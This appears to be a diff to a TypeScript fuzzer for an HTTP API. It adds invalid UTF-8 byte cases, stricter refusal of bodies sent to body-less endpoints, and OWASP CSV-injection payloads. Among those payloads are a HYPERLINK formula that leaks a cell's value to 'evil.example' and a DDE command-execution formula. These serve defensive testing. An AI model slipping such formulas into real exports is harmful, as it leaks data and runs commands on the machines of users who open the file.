@@ -30,7 +30,8 @@ export interface FuzzRequest {
   readonly method: string;
   readonly path: string;
   readonly headers: Record<string, string>;
-  readonly body: string | null;
+  /** The exact text sent, or the bytes where they are not UTF-8. */
+  readonly body: string | Buffer | null;
   /** Sent without Content-Length (chunked), so a limit must be enforced while reading. */
   readonly chunked: boolean;
   /** What was done to the valid body (for the report). */
@@ -39,6 +40,10 @@ export interface FuzzRequest {
   readonly mustRefuse: boolean;
 }
 
+/** Text a spreadsheet runs as a formula when an export writes it as it is (OWASP, CSV injection). */
+const FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Refund")', "=cmd|' /C calc'!A0", '+1+1', '-2-3', '@SUM(1+1)', '\t=1+1', '\r=1+1'];
+/** Bytes that are not UTF-8: a byte that cannot follow C3, an overlong "/", a surrogate, past U+10FFFF, a lone continuation, FF, a sequence cut short. */
+const NOT_UTF8 = [[0xc3, 0x28], [0xc0, 0xaf], [0xed, 0xa0, 0x80], [0xf4, 0x90, 0x80, 0x80], [0x80], [0xff], [0xe2, 0x82]];
 const NASTY_STRINGS = [
   '',
   ' ',
@@ -79,7 +84,10 @@ const NASTY_STRINGS = [
   '9999x9999',
   '0x0',
   '-1x-1',
+  ...FORMULAS,
 ];
+/** Where the bytes of NOT_UTF8 go in a body's text (JSON.stringify cannot write them). */
+const BYTES_GO_HERE = '<not-utf-8>';
 /** Characters PostgreSQL text and jsonb refuse, and other troublemakers, to hide inside valid strings. */
 const POISON = ['\u0000', '\ud800', '\udfff', '\ud83d', '\u0000\u0000', '\uffff', '\u2028', '\u001b'];
 const NASTY_NUMBERS = [0, -1, -0, 0.5, -0.5, 1e308, -1e308, 5e-324, 2 ** 31, 2 ** 32, 2 ** 53, 2 ** 53 + 2, -(2 ** 63), Number.MAX_SAFE_INTEGER, Number.MIN_SAFE_INTEGER];
@@ -140,7 +148,7 @@ const show = (value: Tree) => {
 };
 
 interface BodyCase {
-  readonly text: string | null;
+  readonly text: string | Buffer | null;
   readonly mutation: string;
   readonly mustRefuse: boolean;
   readonly contentType?: string | null;
@@ -153,15 +161,37 @@ function jsonBodies(base: Record<string, unknown>, limit: number): fc.Arbitrary<
   const path = fc.constantFrom(...paths);
   const stringPaths = paths.filter((p) => typeof parentOf(base as Tree, p).parent[parentOf(base as Tree, p).key] === 'string');
   const clone = () => structuredClone(base) as Tree;
+  /** A copy of the body with `text` put into its string at `p`, `at` characters in (modulo the string's length). */
+  const inserted = (p: Path, at: number, text: string) => {
+    const body = clone();
+    const { parent, key } = parentOf(body, p);
+    const value = parent[key] as string;
+    const cut = at % (value.length + 1);
+    parent[key] = value.slice(0, cut) + text + value.slice(cut);
+    return { body, cut };
+  };
   // Poison goes into the body's strings; a body with none gets its poison from badValue below.
   const poisoned = stringPaths.length === 0 ? [] : [
     { weight: 4, arbitrary: fc.tuple(fc.constantFrom(...stringPaths), fc.constantFrom(...POISON), fc.nat()).map(([p, poison, at]): BodyCase => {
+      const { body, cut } = inserted(p, at, poison);
+      return { text: writeJson(body), mutation: `insert ${JSON.stringify(poison)} into ${describePath(p)} at ${cut}`, mustRefuse: false };
+    }) },
+    // Inside a string such bytes were read as U+FFFD, and the request served and billed.
+    { weight: 3, arbitrary: fc.tuple(fc.constantFrom(...stringPaths), fc.constantFrom(...NOT_UTF8), fc.nat()).map(([p, bytes, at]): BodyCase => {
+      const { body, cut } = inserted(p, at, BYTES_GO_HERE);
+      const [before, after] = writeJson(body).split(BYTES_GO_HERE);
+      return {
+        text: Buffer.concat([Buffer.from(before!), Buffer.from(bytes), Buffer.from(after!)]),
+        mutation: `insert the bytes ${Buffer.from(bytes).toString('hex')} (not UTF-8) into ${describePath(p)} at ${cut}`,
+        mustRefuse: true,
+      };
+    }) },
+    // Accepted where the field takes any text (a credit's reference and note): the exports must neutralise it.
+    { weight: 3, arbitrary: fc.tuple(fc.constantFrom(...stringPaths), fc.constantFrom(...FORMULAS)).map(([p, formula]): BodyCase => {
       const body = clone();
       const { parent, key } = parentOf(body, p);
-      const value = parent[key] as string;
-      const cut = at % (value.length + 1);
-      parent[key] = value.slice(0, cut) + poison + value.slice(cut);
-      return { text: writeJson(body), mutation: `insert ${JSON.stringify(poison)} into ${describePath(p)} at ${cut}`, mustRefuse: false };
+      parent[key] = formula;
+      return { text: writeJson(body), mutation: `set ${describePath(p)} = ${JSON.stringify(formula)}`, mustRefuse: false };
     }) },
   ];
   return fc.oneof(
@@ -193,6 +223,16 @@ function jsonBodies(base: Record<string, unknown>, limit: number): fc.Arbitrary<
       return { text: writeJson(body), mutation: `duplicate key ${name} = ${show(value)} ${badLast ? 'after' : 'before'} the valid one`, mustRefuse: false };
     }) },
     { weight: 1, arbitrary: badValue.map((value): BodyCase => ({ text: writeJson(value), mutation: `whole body = ${show(value)}`, mustRefuse: !isJsonObject(value) })) },
+    { weight: 1, arbitrary: fc.tuple(fc.constantFrom(...NOT_UTF8), fc.nat(), fc.boolean()).map(([bytes, at, chunked]): BodyCase => {
+      const text = Buffer.from(writeJson(clone()));
+      const cut = at % (text.length + 1);
+      return {
+        text: Buffer.concat([text.subarray(0, cut), Buffer.from(bytes), text.subarray(cut)]),
+        mutation: `insert the bytes ${Buffer.from(bytes).toString('hex')} (not UTF-8) at byte ${cut}${chunked ? ', chunked' : ''}`,
+        mustRefuse: true,
+        chunked,
+      };
+    }) },
     { weight: 1, arbitrary: fc.constantFrom<BodyCase>(
       { text: '', mutation: 'empty body', mustRefuse: true },
       { text: null, mutation: 'no body at all', mustRefuse: true, contentType: null },
@@ -244,10 +284,13 @@ const multipartBodies: fc.Arbitrary<BodyCase> = fc.oneof(
   ),
 );
 
-/** A body-less endpoint still gets junk, which it must ignore or refuse cleanly. */
-const ignoredBodies: fc.Arbitrary<BodyCase> = fc.oneof(
-  fc.constant<BodyCase>({ text: null, mutation: 'no body', mustRefuse: false, contentType: null }),
-  badValue.map((value): BodyCase => ({ text: writeJson(value), mutation: `junk body ${show(value)}`, mustRefuse: false })),
+/** A body-less endpoint still gets junk, which it must refuse: it takes nothing, or `{}`. */
+const unwantedBodies: fc.Arbitrary<BodyCase> = fc.oneof(
+  fc.constantFrom<BodyCase>(
+    { text: null, mutation: 'no body', mustRefuse: false, contentType: null },
+    { text: '{}', mutation: 'an empty object', mustRefuse: false },
+  ),
+  badValue.map((value): BodyCase => ({ text: writeJson(value), mutation: `junk body ${show(value)}`, mustRefuse: writeJson(value) !== '{}' })),
 );
 
 /**
@@ -269,7 +312,7 @@ export interface FuzzCredentials {
 
 export function requestsFor(target: FuzzTarget, env: FuzzEnv, credentials: FuzzCredentials): fc.Arbitrary<FuzzRequest> {
   const bodies =
-    target.body.kind === 'json' ? jsonBodies(target.body.base(env), target.body.limit) : target.body.kind === 'multipart' ? multipartBodies : ignoredBodies;
+    target.body.kind === 'json' ? jsonBodies(target.body.base(env), target.body.limit) : target.body.kind === 'multipart' ? multipartBodies : unwantedBodies;
   const odd = target.params ? fc.option(fc.constantFrom(...oddIds), { nil: null, freq: 8 }) : fc.constant(null);
   const restricted = fc.boolean().chain((b) => (b ? fc.boolean() : fc.constant(false))).chain((b) => (b ? fc.boolean() : fc.constant(false)));
   return fc.tuple(bodies, odd, restricted).map(([body, oddId, useRestricted]): FuzzRequest => {
@@ -288,7 +331,7 @@ export function requestsFor(target: FuzzTarget, env: FuzzEnv, credentials: FuzzC
         ...(oddId === null ? [] : [`path id ${oddId.length > 40 ? `${oddId.slice(0, 20)}… (${oddId.length} chars)` : oddId}`]),
         ...(useRestricted && target.auth === 'key' ? ['the key allowed only chat-fast'] : []),
       ].join('; '),
-      mustRefuse: target.body.kind !== 'none' && body.mustRefuse,
+      mustRefuse: body.mustRefuse,
     };
   });
 }
